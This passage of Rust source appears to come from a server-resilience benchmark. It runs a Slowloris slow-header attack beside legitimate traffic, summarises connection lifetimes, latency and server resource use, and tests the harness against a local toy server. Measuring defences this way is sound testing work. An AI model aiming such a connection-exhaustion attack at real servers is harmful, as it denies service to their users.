            attack_from + offset,
            end,
            held.clone(),
        ));
    }
    // Sample what is held open (and the server's descriptors and memory) until the end.
    let (mut samples, mut held_sum, mut held_max) = (0u64, 0i64, 0i64);
    let (mut fds_max, mut rss_max) = (None::<u64>, None::<u64>);
    let mut tick = tokio::time::interval_at(attack_from + SAMPLE_EVERY, SAMPLE_EVERY);
    tick.set_missed_tick_behavior(tokio::time::MissedTickBehavior::Skip);
    let mut since_server_sample = 0u32;
    loop {
        tokio::select! {
            _ = tick.tick() => {
                let now_held = held.load(Ordering::Relaxed);
                samples += 1;
                held_sum += now_held;
                held_max = held_max.max(now_held);
                since_server_sample += 1;
                // The server's /proc once a second: a directory of thousands of descriptors
                // is not free to list.
                if let (Some(pid), true) = (options.server_pid, since_server_sample >= 10) {
                    since_server_sample = 0;
                    fds_max = fds_max.max(open_fds(pid));
                    rss_max = rss_max.max(rss_kib(pid));
                }
            }
            () = tokio::time::sleep_until(end) => break,
        }
    }
    let at_end = read_now(options.server_pid);
    if let Some(pid) = options.server_pid {
        rss_max = rss_max.max(at_end.server_rss);
        fds_max = fds_max.max(open_fds(pid));
    }

    let mut attack = AttackCounts::default();
    while let Some(joined) = attackers.join_next().await {
        let part = joined.map_err(|e| BenchError::Invalid(e.to_string()))?;
        attack.merge(&part);
    }
    let mut traffic = LegitResult::default();
    while let Some(joined) = legit.join_next().await {
        let part = joined.map_err(|e| BenchError::Invalid(e.to_string()))?;
        traffic.baseline.merge(&part.baseline);
        traffic.attack.merge(&part.attack);
    }
    sched_stop.store(true, Ordering::Relaxed);
    let series = sched_thread
        .join()
        .map_err(|_| BenchError::Invalid("the scheduler sampler panicked".into()))?;
    for slow in traffic
        .baseline
        .slowest
        .iter_mut()
        .chain(traffic.attack.slowest.iter_mut())
    {
        if let Some((sent, done)) = slow.in_flight {
            slow.sched = series.over(sent, done);
        }
    }

    let mut lifetimes = Histogram::default();
    for ms in &attack.lifetimes_ms {
        lifetimes.record(*ms);
    }
    let seconds = |d: Duration| d.as_secs_f64();
    let lifetime_s = |ms: u64| ms as f64 / 1000.0;
    Ok(SlowlorisSummary {
        target: options.target.to_string(),
        path: options.path.clone(),
        legit_rate: options.legit_rate,
        legit_connections: options.legit_connections.max(1),
        baseline: phase_summary(
            &traffic.baseline,
            seconds(options.baseline),
            &at_baseline,
            &at_attack,
        ),
        under_attack: phase_summary(
            &traffic.attack,
            seconds(options.attack),
            &at_attack,
            &at_end,
        ),
        attack: AttackSummary {
            connections: n,
            seconds: seconds(options.attack),
            trickle_seconds: seconds(options.trickle),
            opened: attack.opened,
            connect_errors: attack.connect_errors,
            closed_by_server: attack.closed_by_server,
            refused_at_once: attack.refused_at_once,
            refused_within_s: seconds(options.refused_within),
            answers: attack.answers,
            held_closed: lifetimes.count(),
            lifetime_min_s: lifetime_s(attack.lifetimes_ms.iter().copied().min().unwrap_or(0)),
            lifetime_p50_s: lifetime_s(lifetimes.quantile(0.50)),
            lifetime_p99_s: lifetime_s(lifetimes.quantile(0.99)),
            lifetime_max_s: lifetime_s(lifetimes.max()),
            open_at_end: attack.open_at_end,
            open_at_end_oldest_s: lifetime_s(attack.open_at_end_oldest_ms),
            held_avg: if samples == 0 {
                0.0
            } else {
                held_sum as f64 / samples as f64
            },
            held_max,
            connect_max_ms: ms(attack.connect_max_us),
            server_fds_max: fds_max,
            server_rss_max_kib: rss_max,
        },
    })
}

#[cfg(test)]
mod tests {
    use super::*;
    use tokio::net::TcpListener;

    #[test]
    fn response_heads_are_framed() {
        let head = parse_head(b"HTTP/1.1 200 OK\r\ncontent-length: 12\r\n\r\n{\"ok\":true}\n")
            .unwrap()
            .unwrap();
        assert_eq!(head.status, 200);
        assert_eq!(head.framing, Framing::Length(12));
        assert!(!head.closes);
        assert_eq!(head.length, 39);
        let chunked =
            parse_head(b"HTTP/1.1 503 Service Unavailable\r\nTransfer-Encoding: chunked\r\nConnection: close\r\n\r\n")
                .unwrap()
                .unwrap();
        assert_eq!(chunked.status, 503);
        assert_eq!(chunked.framing, Framing::Chunked);
        assert!(chunked.closes);
        let open = parse_head(b"HTTP/1.0 200 OK\r\n\r\n").unwrap().unwrap();
        assert_eq!(open.framing, Framing::UntilClose);
        assert!(open.closes);
        let empty = parse_head(b"HTTP/1.1 204 No Content\r\n\r\n")
            .unwrap()
            .unwrap();
        assert_eq!(empty.framing, Framing::Length(0));
        assert_eq!(parse_head(b"HTTP/1.1 200 OK\r\nconte").unwrap(), None);
        assert_eq!(parse_head(b"SSH-2.0-x\r\n\r\n"), Err(Failure::Malformed));
        assert_eq!(status_of(b"HTTP/1.1 503 Service"), Some(503));
        assert_eq!(status_of(b""), None);
    }

    /// Serves `answer` to `requests` on a connection, keeping the rest of the bytes.
    async fn answer_on(mut server: TcpStream, answer: &'static [u8]) {
        let mut buf = Vec::new();
        loop {
            while let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
                buf.drain(..end + 4);
                if server.write_all(answer).await.is_err() {
                    return;
                }
            }
            buf.reserve(1024);
            match server.read_buf(&mut buf).await {
                Ok(0) | Err(_) => return,
                Ok(_) => {}
            }
        }
    }

    #[tokio::test]
    async fn chunked_and_sized_answers_are_read_whole() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let addr = listener.local_addr().unwrap();
        tokio::spawn(async move {
            let (server, _) = listener.accept().await.unwrap();
            answer_on(
                server,
                b"HTTP/1.1 200 OK\r\ntransfer-encoding: chunked\r\n\r\n3;x=1\r\nabc\r\n2\r\nde\r\n0\r\nT: 1\r\n\r\n",
            )
            .await;
        });
        let mut stream = TcpStream::connect(addr).await.unwrap();
        let mut buf = Vec::new();
        for _ in 0..3 {
            let head = exchange(&mut stream, &mut buf, b"GET / HTTP/1.1\r\nHost: x\r\n\r\n")
                .await
                .unwrap();
            assert_eq!(head.status, 200);
            assert!(buf.is_empty(), "left over: {buf:?}");
        }
    }

    /// A toy server with the behaviours measured: legitimate requests answered at once, heads
    /// that take longer than `deadline` closed silently, and connections beyond `cap` from one
    /// address answered 503 and closed.
    async fn toy_server(listener: TcpListener, deadline: Duration, cap: usize) {
        let open = Arc::new(std::sync::Mutex::new(BTreeMap::<IpAddr, usize>::new()));
        loop {
            let (mut stream, peer) = listener.accept().await.unwrap();
            let open = open.clone();
            tokio::spawn(async move {
                let admitted = {
                    let mut open = open.lock().unwrap();
                    let count = open.entry(peer.ip()).or_default();
                    *count += 1;
                    *count <= cap
                };
                if !admitted {
                    let refusal = b"HTTP/1.1 503 Service Unavailable\r\ncontent-length: 0\r\nconnection: close\r\n\r\n";
                    let _ = stream.write_all(refusal).await;
                } else {
                    serve_toy(&mut stream, deadline).await;
                }
                *open.lock().unwrap().get_mut(&peer.ip()).unwrap() -= 1;
            });
        }
    }

    async fn serve_toy(stream: &mut TcpStream, deadline: Duration) {
        let mut buf = Vec::new();
        let mut head_started = tokio::time::Instant::now();
        loop {
            if let Some(end) = buf.windows(4).position(|w| w == b"\r\n\r\n") {
                buf.drain(..end + 4);
                let ok = b"HTTP/1.1 200 OK\r\ncontent-length: 2\r\n\r\nok";
                if stream.write_all(ok).await.is_err() {
                    break;
                }
                head_started = tokio::time::Instant::now();
                continue;
            }
            buf.reserve(1024);
            match tokio::time::timeout_at(head_started + deadline, stream.read_buf(&mut buf)).await
            {
                Ok(Ok(n)) if n > 0 => {}
                _ => break,
            }
        }
    }

    #[cfg(target_os = "linux")]
    #[tokio::test]
    async fn measures_legitimate_traffic_beside_an_attack() {
        let listener = TcpListener::bind("127.0.0.1:0").await.unwrap();
        let target = listener.local_addr().unwrap();
        let server = tokio::spawn(toy_server(listener, Duration::from_millis(1_500), 10));
        let summary = run(SlowlorisOptions {
            target,
            path: "/api/v1/health".into(),
            attack_connections: 15,
            attack_sources: vec!["127.0.0.1".parse().unwrap()],
            legit_source: "127.0.0.2".parse().unwrap(),
            legit_rate: 100.0,
            legit_connections: 2,
            warmup: Duration::from_millis(200),
            baseline: Duration::from_millis(500),
            attack: Duration::from_millis(3_000),
            trickle: Duration::from_millis(200),
            reconnect_wait: Duration::from_millis(300),
            refused_within: Duration::from_millis(500),
            request_timeout: Duration::from_secs(2),
            server_pid: Some(std::process::id()),
            watch_pids: vec![std::process::id()],
        })
        .await
        .unwrap();
        server.abort();
        let (baseline, attacked, attack) =
            (&summary.baseline, &summary.under_attack, &summary.attack);
        assert!((49..=51).contains(&baseline.scheduled), "{summary:#?}");
        assert_eq!(baseline.ok, baseline.scheduled, "{summary:#?}");
        assert!((299..=301).contains(&attacked.scheduled), "{summary:#?}");
        assert_eq!(attacked.ok, attacked.scheduled, "{summary:#?}");
        assert!(attacked.p99_ms < 200.0, "{summary:#?}");
        // Ten held from 127.0.0.1 until the 1.5 s deadline, five refused at once (503) and
        // retried every 0.3 s; the held ones closed within the deadline (plus scheduling).
        assert!(attack.refused_at_once >= 5, "{summary:#?}");
        assert_eq!(
            attack.answers.values().sum::<u64>(),
            attack.closed_by_server,
            "{summary:#?}"
        );
        assert!(attack.held_closed >= 10, "{summary:#?}");
        assert!(attack.lifetime_min_s >= 1.4, "{summary:#?}");
        assert!(attack.lifetime_max_s < 2.0, "{summary:#?}");
        // Refused connections count as held for the moment before their 503 arrives.
        assert!((9..=15).contains(&attack.held_max), "{summary:#?}");
        assert!(attack.held_avg > 5.0, "{summary:#?}");
        assert!(summary.baseline.server_cpu_percent.is_some());
        assert!(!attacked.cpu_busy_percent.is_empty(), "{summary:#?}");
        assert_eq!(attacked.slowest.len(), SLOWEST, "{summary:#?}");
        let sched = &attacked.slowest[0].sched;
        assert_eq!(sched.len(), 1, "{summary:#?}");
        assert!(
            sched[0].window_ms >= attacked.slowest[0].service_ms,
            "{summary:#?}"
        );
        assert!(attacked.slowest[0].latency_ms >= attacked.slowest[SLOWEST - 1].latency_ms);
    }
}
